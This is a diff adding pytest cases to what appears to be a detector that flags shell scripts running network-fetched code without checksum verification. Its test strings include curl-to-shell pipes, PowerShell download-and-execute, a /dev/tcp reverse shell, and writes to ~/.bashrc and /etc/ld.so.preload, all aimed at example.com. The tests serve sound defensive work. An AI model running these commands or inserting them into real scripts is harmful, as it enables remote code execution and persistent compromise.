@@ -453,3 +453,148 @@ def test_trees_and_packages_that_ordinary_builds_get(script: str) -> None:
 )
 def test_a_tree_over_lines(lines: tuple[str, ...], kind: type[Outcome]) -> None:
     assert isinstance(of_lines(*lines), kind)
+
+
+@pytest.mark.parametrize(
+    "shell",
+    [
+        "env -iS'bash -e'",
+        "env --split-string='bash -e'",
+        "flock /l -c sh",
+        "script -qc bash /dev/null",
+        "capsh --user=app -- -s",
+        "sudo -i",
+        "doas -s",
+        "chroot /mnt",
+        "split --filter=sh",
+        "socat - EXEC:sh",
+        "guile",
+        "sed e",
+        "sed -n 's/^/x/e'",
+        "awk '{system($0)}'",
+        "python3 -c 'import sys; exec(sys.stdin.read())'",
+        "perl -e 'eval join \"\", <STDIN>'",
+        'node -e \'eval(require("fs").readFileSync(0)+"")\'',
+        "pwsh -c 'iex (Get-Content -)'",
+        "fish -c 'cat | sh'",
+    ],
+)
+def test_other_programs_that_run_their_input(shell: str) -> None:
+    assert isinstance(examine(f"{FETCH} | {shell}"), Failed)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{FETCH} | /bin/b?sh",
+        f"{FETCH} | emacs --script /dev/stdin",
+        f"{FETCH} | go run /dev/stdin",
+        "powershell -EncodedCommand ZQBjAGgAbwA=",
+        "pwsh -NoProfile -enc ZQBjAGgAbwA=",
+    ],
+)
+def test_a_program_that_may_run_its_input_is_unknown(script: str) -> None:
+    assert isinstance(examine(script), Incomplete)
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "java -jar x",
+        "java -javaagent:./x -version",
+        "java -cp a.jar:x Main",
+        "mono x",
+        "wasmtime x",
+        "go run ./x",
+        "make -f x",
+        "awk -f x y",
+        "node --require ./x y.js",
+        "node -r ./x y.js",
+        "ruby -r./x -e 1",
+        "perl -e 'do \"./x\"'",
+        "crontab x",
+        "at -f x now",
+        "F=x; sh $F",
+        'F=./x; "$F"',
+        "for f in a x; do sh $f; done",
+        "find . -name x -exec sh {} \\;",
+        "find . -name 'x*' -exec {} \\;",
+        "echo x | xargs sh",
+        "sh -c '. \"$0\"' ./x",
+        "rsync x /opt/y; sh /opt/y",
+        "dd if=x of=y; sh y",
+        "openssl enc -d -in x -out y; sh y",
+        "gpg -o y -d x; sh y",
+        "gcc -xc x -o y; ./y",
+        "exec < x; sh",
+    ],
+)
+def test_other_programs_that_run_a_saved_file(run: str) -> None:
+    saved = "curl -o x https://example.com/x"
+    assert isinstance(examine(f"{saved}; {run}"), Failed)
+    assert isinstance(examine(f"{saved}; echo '{SHA256}  x' | sha256sum -c - && {run}"), Passed)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -o /tmp/x https://example.com/x; chmod 755 /tmp/*; /tmp/*",
+        "curl -o /tmp/x https://example.com/x; for f in /tmp/*; do sh $f; done",
+        "curl -o /tmp/d/x https://example.com/x; run-parts /tmp/d",
+        "curl -o /etc/profile.d/x.sh https://example.com/x",
+        "curl -o ~/.bashrc https://example.com/x",
+        "curl -o /etc/ld.so.preload https://example.com/x",
+        "curl -o /x.so https://example.com/x; echo /x.so > /etc/ld.so.preload",
+        "curl -o /docker-entrypoint.d/x.sh https://example.com/x",
+        "curl -o Makefile https://example.com/x; make",
+        "curl https://example.com/x | install -m755 /dev/stdin /usr/bin/x; x",
+        "wget https://example.com/; sh index.html",
+        "curl -o mod.py https://example.com/x; python3 -m mod",
+        "curl -o mod.py https://example.com/x; python3 -c 'import mod'",
+        "exec < <(curl https://example.com/x); sh",
+        "bash -i >& /dev/tcp/example.com/80 0>&1",
+        "source /dev/stdin <<EOF\ncurl https://example.com/i | sh\nEOF",
+        'python3 - <<EOF\nimport os\nos.system("curl https://example.com/i | sh")\nEOF',
+        "php -r 'include \"https://example.com/i\";'",
+        'pwsh -c "iex (iwr https://example.com/i)"',
+        "pwsh -c '& ([scriptblock]::Create((irm https://example.com/i)))'",
+        'pwsh -Command "Invoke-WebRequest https://example.com/i -OutFile i.ps1; ./i.ps1"',
+        "rpm -i https://example.com/x.rpm",
+        "dnf install -y https://example.com/x.rpm",
+        "curl -o x.deb https://example.com/x; dpkg -i x.deb",
+        "curl -o x.deb https://example.com/x; apt-get install -y ./x.deb",
+        "curl -o x.rpm https://example.com/x; yum localinstall -y x.rpm",
+        "curl -o x.whl https://example.com/x; python3 -m pip install x.whl",
+        "curl -o x.tgz https://example.com/x; npm install -g ./x.tgz",
+        f"curl -o x https://example.com/a; echo '{SHA256}  x' | sha256sum -c; curl -o x https://example.com/b; sh x",
+        f"echo '{SHA256}  x' | sha256sum -c; curl -o x https://example.com/b; sh x",
+    ],
+)
+def test_more_ways_of_code_from_the_network(script: str) -> None:
+    assert isinstance(examine(script), Failed)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f'F=i.sh; curl -o "$F" https://example.com/i.sh; echo "{SHA256}  i.sh" | sha256sum -c - && sh "$F"',
+        f'F=i.sh; curl -o "$F" https://example.com/i.sh; sha256sum -c - <<E\n{SHA256}  $F\nE\nsh i.sh',
+        f"curl -o /tmp/x.deb https://example.com/x; echo '{SHA256}  /tmp/x.deb' | sha256sum -c; dpkg -i /tmp/x.deb",
+        "curl -o /opt/x.jar https://example.com/x.jar; java -jar app.jar",
+        f"curl -o x https://example.com/x; echo '{SHA256}  x' | sha256sum -c && install x /usr/local/bin/y && y",
+        f"curl -o x.gz https://example.com/x; echo '{SHA256}  x.gz' | sha256sum -c; gunzip x.gz; sh x",
+        "curl https://example.com/x | sed -e 's/e/e/' | tee z",
+        "curl https://example.com/x | perl -pe 's/a/b/'",
+        "curl https://example.com/x | node -e 'console.log(JSON.parse(require(\"fs\").readFileSync(0)).a)'",
+        "curl https://example.com/x | psql",
+        "for f in a b; do rm -f $f; done; find . -name '*.sh' -exec sh {} \\;",
+        "rpm --import https://example.com/key; rpm -K https://example.com/x.rpm",
+        "dnf config-manager --add-repo https://example.com/x.repo; dnf install -y nginx ./local.rpm",
+        'python3 - <<E\nimport json, urllib.request as r\nprint(json.load(r.urlopen("https://example.com/x")))\nE',
+        'pwsh -NoLogo -NoProfile -Command "Install-Module -Name Pester -Force"',
+        "sudo -u app make; su - app -c 'make'; chroot /mnt apt-get update; flock /l make; script -qc make /dev/null",
+        "curl -o /etc/apt/sources.list.d/x.list https://example.com/x.list",
+    ],
+)
+def test_more_that_ordinary_builds_do(script: str) -> None:
+    assert isinstance(examine(script), Passed)
